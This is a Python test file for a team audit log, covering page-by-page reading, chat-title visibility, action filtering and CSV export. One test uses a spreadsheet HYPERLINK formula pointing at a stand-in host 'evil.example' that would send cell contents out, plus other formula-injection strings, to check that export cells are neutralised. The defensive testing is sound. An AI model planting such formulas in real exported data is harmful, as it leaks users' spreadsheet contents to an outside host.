"""The audit tells a team's managers who did what, page by page or as a table."""

import csv
import io

import pytest

from spacerr.domain.errors.base import BadRequest
from spacerr.domain.limits import AUDIT_PAGE
from spacerr.domain.roles import Sharing
from spacerr.domain.tables import Chat
from spacerr.domain.teams.audit import ACTION_LABELS, Action
from spacerr.services import audit
from spacerr.services.chats import edit
from spacerr.services.teams import members
from tests.support.people.replies import ADA
from tests.support.people.teams import ADMIN, MEMBER, joined, noted, team
from tests.support.stores.databases import on_both_engines, on_sqlite

pytestmark = [pytest.mark.anyio, on_both_engines]
FORMULA = '=HYPERLINK("https://evil.example/?"&A1, "Click")'


async def table(d, team_id: str, by: str = ADA) -> list[list[str]]:
    pieces = await audit.export_csv(d, by, team_id)
    return list(csv.reader(io.StringIO("".join([piece async for piece in pieces]))))


async def fill(d, team_id: str, count: int) -> None:
    """Note one thing after another."""
    async with d.db.writing() as session:
        for n in range(count):
            await audit.record(session, ADA, team_id, Action.LINK_MADE, subject_id=f"chat {n}")


def test_every_action_has_words():
    assert set(ACTION_LABELS) == set(Action)


async def test_what_was_done_is_read_page_by_page_newest_first(d):
    made = await team(d)
    await fill(d, made, AUDIT_PAGE * 2)
    first = await audit.list_entries(d, ADA, made)
    assert first.entries[0].subject_id == f"chat {AUDIT_PAGE * 2 - 1}"
    second = await audit.list_entries(d, ADA, made, before=first.entries[-1].id)
    third = await audit.list_entries(d, ADA, made, before=second.entries[-1].id)
    assert (first.more, second.more, third.more) == (True, True, False)
    assert [it.action for it in third.entries] == [Action.TEAM_CREATED]
    shown = [it.id for page in (first, second, third) for it in page.entries]
    assert len(set(shown)) == AUDIT_PAGE * 2 + 1
    assert shown == sorted(shown, reverse=True)


async def test_a_chat_is_named_to_who_may_see_it(d):
    made = await team(d)
    shared, private = (
        Chat(user_id=ADA, team_id=made, title=title, shared=how)
        for title, how in (("Boats", Sharing.READ), ("Secrets", Sharing.PRIVATE))
    )
    admin = await joined(d, made, "Bob", ADMIN)
    async with d.db.writing() as session:
        session.add_all([shared, private])
        for chat in (shared, private):
            await audit.record(session, ADA, made, Action.LINK_MADE, subject_id=chat.id)
    mine, theirs = await audit.list_entries(d, ADA, made), await audit.list_entries(d, admin, made)
    assert mine.titles == {shared.id: "Boats", private.id: "Secrets"}
    assert theirs.titles == {shared.id: "Boats"}


async def test_one_kind_of_action_can_be_looked_for(d):
    made = await team(d)
    await fill(d, made, 2)
    page = await audit.list_entries(d, ADA, made, action=Action.TEAM_CREATED)
    assert [it.action for it in page.entries] == [Action.TEAM_CREATED]
    assert (await audit.list_entries(d, ADA, made, action=Action.ROLE_CHANGED)).entries == []


@pytest.mark.parametrize("asked", [{"before": "\0"}, {"before": "x" * 300}, {"action": "x"}])
async def test_a_page_there_cannot_be_is_refused(d, asked):
    made = await team(d)
    with pytest.raises(BadRequest):
        await audit.list_entries(d, ADA, made, **asked)


async def test_a_team_reads_only_what_was_done_in_it(d):
    made, other = await team(d), await team(d, "Ships")
    await fill(d, other, 3)
    assert await noted(d, made) == []


async def test_what_cannot_be_done_is_not_noted(d):
    made = await team(d)
    bob = await joined(d, made, "Bob")
    with pytest.raises(BadRequest):
        await members.set_role(d, ADA, made, bob, "god", MEMBER)
    assert await noted(d, made) == []


async def test_deleting_and_restoring_a_shared_chat_is_noted_without_its_title(d):
    made = await team(d)
    async with d.db.writing() as session:
        rows = [
            Chat(user_id=ADA, team_id=made, title="My diary", shared=shared)
            for shared in (Sharing.READ, Sharing.PRIVATE)
        ]
        session.add_all(rows)
    shared = rows[0].id
    for row in rows:
        for _ in range(2):
            await edit.delete(d, ADA, row.id)
        for _ in range(2):
            await edit.restore(d, ADA, row.id)
    done = [(it.action, it.subject_id) for it in await noted(d, made)]
    assert done == [(Action.CHAT_RESTORED, shared), (Action.CHAT_DELETED, shared)]
    assert "diary" not in repr(await noted(d, made))


async def test_a_table_holds_everything_in_words(d):
    made = await team(d)
    bob = await joined(d, made, "Bob")
    await members.set_role(d, ADA, made, bob, "admin", MEMBER)
    [_, changed, created] = await table(d, made)
    assert changed[1:5] == ["You", "Changed a role", "Bob", "role: admin; was: member"]
    assert created[2] == "Created the team"
    assert changed[6] == bob


async def test_no_cell_of_a_table_is_a_formula(d):
    made = await team(d)
    bob = await joined(d, made, FORMULA, "admin")
    await members.set_role(d, bob, made, bob, MEMBER, "admin")
    async with d.db.writing() as session:
        for name in ("+1", "-1", "@SUM(A1)", "\t=1", " =1", "\r=1"):
            await audit.record(session, ADA, made, Action.MEMBER_LEFT, subject=name)
    cells = [cell for row in await table(d, made) for cell in row]
    assert f"'{FORMULA}" in cells
    assert not [cell for cell in cells if cell.lstrip()[:1] in ("=", "+", "-", "@")]


@on_sqlite
async def test_a_table_goes_on_beyond_one_reading(d, monkeypatch):
    monkeypatch.setattr(audit, "EXPORT_PAGE", 3)
    made = await team(d)
    await fill(d, made, 8)
    rows = (await table(d, made))[1:]
    assert [row[6] for row in rows] == [*(f"chat {n}" for n in reversed(range(8))), ""]
